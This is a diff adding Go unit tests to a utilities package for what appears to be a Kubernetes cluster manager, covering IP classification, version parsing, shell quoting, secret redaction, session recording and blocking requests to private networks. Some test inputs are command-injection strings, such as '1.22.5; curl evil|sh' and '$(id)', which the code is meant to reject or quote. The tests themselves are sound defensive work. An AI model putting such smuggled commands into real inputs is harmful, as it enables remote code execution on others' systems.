@@ -1,7 +1,15 @@
 package utils
 
 import (
+	"context"
+	"encoding/json"
 	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"os"
+	"path/filepath"
+	"strings"
 	"testing"
 )
 
@@ -75,6 +83,31 @@ func TestCheckCIDRContains(t *testing.T) {
 	}
 }
 
+func TestIsPublicIP(t *testing.T) {
+	itemList := map[string]bool{
+		"8.8.8.8":          true,
+		"203.0.113.10":     true,
+		"2001:4860::8888":  true,
+		"127.0.0.1":        false,
+		"10.1.2.3":         false,
+		"172.16.0.1":       false,
+		"192.168.1.1":      false,
+		"169.254.169.254":  false,
+		"100.64.0.1":       false,
+		"0.0.0.0":          false,
+		"224.0.0.1":        false,
+		"::1":              false,
+		"fe80::1":          false,
+		"fd00::1":          false,
+		"::ffff:127.0.0.1": false,
+	}
+	for v, expected := range itemList {
+		if IsPublicIP(net.ParseIP(v)) != expected {
+			t.Errorf("is public ip: %s expected %v", v, expected)
+		}
+	}
+}
+
 func TestCheckK8SPodCIDR(t *testing.T) {
 	type cidrInfo struct {
 		v  string
@@ -228,3 +261,220 @@ func TestCheckPassword(t *testing.T) {
 		t.Logf("check password: %s passed", item.v)
 	}
 }
+
+func TestCheckUpgradeVersion(t *testing.T) {
+	type versionInfo struct {
+		current string
+		target  string
+		ok      bool
+	}
+	itemList := []versionInfo{
+		{"1.22.5", "1.22.6", true},
+		{"1.22.5", "1.23.0", true},
+		{"1.22.5", "v1.23.17", true},
+		{"1.22.5", "1.22.5", false},
+		{"1.22.5", "1.22.4", false},
+		{"1.22.5", "1.21.9", false},
+		{"1.22.5", "1.24.0", false},
+		{"1.22.5", "2.0.0", false},
+		{"1.22.5", "1.23", false},
+		{"1.22.5", "1.23.x", false},
+	}
+	for _, item := range itemList {
+		ok := CheckUpgradeVersion(item.current, item.target) == nil
+		if ok != item.ok {
+			t.Errorf("check upgrade version: %s -> %s failed", item.current, item.target)
+			break
+		}
+		t.Logf("check upgrade version: %s -> %s passed", item.current, item.target)
+	}
+}
+
+func TestParseVersion(t *testing.T) {
+	type versionInfo struct {
+		v        string
+		expected string
+	}
+	itemList := []versionInfo{
+		{"1.22.5", "1.22.5"},
+		{"v1.22.5", "1.22.5"},
+		{"1.022.05", "1.22.5"},
+		{"vv1.22.5", ""},
+		{"1.22.5; curl evil|sh", ""},
+		{"1.+22.5", ""},
+		{"1.-2.5", ""},
+		{"1.22.5+k3s1", ""},
+		{"1..5", ""},
+	}
+	for _, item := range itemList {
+		v, err := ParseVersion(item.v)
+		if item.expected == "" {
+			if err == nil {
+				t.Errorf("parse version: %s should fail", item.v)
+			}
+			continue
+		}
+		if err != nil || v.String() != item.expected {
+			t.Errorf("parse version: %s expected %s, got %v %v", item.v, item.expected, v, err)
+		}
+	}
+}
+
+func TestShellQuote(t *testing.T) {
+	itemList := map[string]string{
+		"":                 "''",
+		"1.22.5":           "'1.22.5'",
+		"a b":              "'a b'",
+		"1.22.5; id":       "'1.22.5; id'",
+		"it's":             `'it'\''s'`,
+		"$(id) `id` \\ \"": "'$(id) `id` \\ \"'",
+	}
+	for v, expected := range itemList {
+		if quoted := ShellQuote(v); quoted != expected {
+			t.Errorf("shell quote: %q expected %q, got %q", v, expected, quoted)
+		}
+	}
+}
+
+func TestMatchETag(t *testing.T) {
+	type etagInfo struct {
+		ifMatch string
+		version uint64
+		ok      bool
+	}
+	itemList := []etagInfo{
+		{"", 3, true},
+		{"*", 3, true},
+		{`"3"`, 3, true},
+		{` "2", "3" `, 3, true},
+		{`"2"`, 3, false},
+		{`W/"3"`, 3, false},
+		{`3`, 3, false},
+	}
+	for _, item := range itemList {
+		if MatchETag(item.ifMatch, item.version) != item.ok {
+			t.Errorf("match etag: %s %d failed", item.ifMatch, item.version)
+			break
+		}
+		t.Logf("match etag: %s %d passed", item.ifMatch, item.version)
+	}
+}
+
+func TestQueryScope(t *testing.T) {
+	type scopeInfo struct {
+		a    string
+		b    string
+		same bool
+	}
+	itemList := []scopeInfo{
+		{"/clusters?pageNo=1&pageSize=10", "/clusters?pageSize=20&pageToken=abc", true},
+		{"/clusters?sortBy=name&filter=type:eq:k3s", "/clusters?filter=type:eq:k3s&sortBy=name&withTotal=true", true},
+		{"/clusters?sortBy=name", "/clusters?sortBy=version", false},
+		{"/clusters?filter=type:eq:k3s", "/clusters?filter=type:eq:k8s", false},
+		{"/projects/a/clusters", "/projects/b/clusters", false},
+	}
+	ignore := []string{"pageNo", "pageSize", "pageToken", "withTotal"}
+	for _, item := range itemList {
+		a, _ := url.Parse(item.a)
+		b, _ := url.Parse(item.b)
+		if (QueryScope(a, ignore...) == QueryScope(b, ignore...)) != item.same {
+			t.Errorf("query scope: %s %s failed", item.a, item.b)
+			break
+		}
+		t.Logf("query scope: %s %s passed", item.a, item.b)
+	}
+}
+
+func TestRedactJSON(t *testing.T) {
+	type redactInfo struct {
+		in  string
+		out string
+	}
+	itemList := []redactInfo{
+		{`{"name":"a","password":"p"}`, `{"name":"a","password":"******"}`},
+		{`{"hosts":[{"ip":"10.0.0.1","Password":"p"}]}`, `{"hosts":[{"Password":"******","ip":"10.0.0.1"}]}`},
+		{`{"secretKey":{"a":1},"labels":{"apiToken":"t"}}`, `{"labels":{"apiToken":"******"},"secretKey":"******"}`},
+		{`[1,"password"]`, `[1,"password"]`},
+	}
+	for _, item := range itemList {
+		out, err := RedactJSON([]byte(item.in))
+		if err != nil || string(out) != item.out {
+			t.Errorf("redact json: %s failed: %s %v", item.in, out, err)
+			break
+		}
+		t.Logf("redact json: %s passed", item.in)
+	}
+	if _, err := RedactJSON([]byte("password=p")); err == nil {
+		t.Errorf("redact json: invalid json passed")
+	}
+}
+
+func TestAsciicastWriter(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "records", "session.cast")
+	w, err := NewAsciicastWriter(path, 80, 24, "xterm", "node")
+	if err != nil {
+		t.Fatalf("new asciicast writer: %s", err)
+	}
+	// 多字节字符被截断时，合并到下一次输出
+	data := []byte("你好")
+	if err := w.Output(data[:4]); err != nil {
+		t.Fatalf("output: %s", err)
+	}
+	if err := w.Output(data[4:]); err != nil {
+		t.Fatalf("output: %s", err)
+	}
+	if err := w.Resize(120, 40); err != nil {
+		t.Fatalf("resize: %s", err)
+	}
+	if err := w.Close(); err != nil {
+		t.Fatalf("close: %s", err)
+	}
+	content, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatalf("read record: %s", err)
+	}
+	lines := strings.Split(strings.TrimSpace(string(content)), "\n")
+	if len(lines) != 4 {
+		t.Fatalf("expect 4 lines, got %d: %s", len(lines), content)
+	}
+	header := map[string]interface{}{}
+	if err := json.Unmarshal([]byte(lines[0]), &header); err != nil || header["version"] != float64(2) || header["width"] != float64(80) {
+		t.Errorf("unexpected header: %s", lines[0])
+	}
+	expected := []struct {
+		code string
+		data string
+	}{{"o", "你"}, {"o", "好"}, {"r", "120x40"}}
+	for i, item := range expected {
+		event := []interface{}{}
+		if err := json.Unmarshal([]byte(lines[i+1]), &event); err != nil || len(event) != 3 {
+			t.Fatalf("unexpected event: %s", lines[i+1])
+		}
+		if event[1] != item.code || event[2] != item.data {
+			t.Errorf("event %d: expect %s %q, got %v %v", i, item.code, item.data, event[1], event[2])
+		}
+	}
+}
+
+func TestDenyPrivateNetwork(t *testing.T) {
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.WriteHeader(http.StatusInternalServerError)
+		w.Write([]byte("internal secret"))
+	}))
+	defer srv.Close()
+	ctx := context.WithValue(context.Background(), SkipUnmarshalKey, true)
+	ctx = context.WithValue(ctx, OmitErrorBodyKey, true)
+	// 未限制时可以访问本地地址，错误中不包含响应内容
+	client := NewHTTPClient(srv.URL)
+	err := client.GET(ctx, "/", &BaseRequest{}, &BaseResponse{})
+	if err == nil || !strings.Contains(err.Error(), "500") || strings.Contains(err.Error(), "internal secret") {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	// 限制后拒绝连接本地地址
+	client = NewHTTPClient(srv.URL)
+	client.DenyPrivateNetwork()
+	err = client.GET(ctx, "/", &BaseRequest{}, &BaseResponse{})
+	if err == nil || !strings.Contains(err.Error(), "not allowed") {
+		t.Fatalf("unexpected error: %v", err)
+	}
+}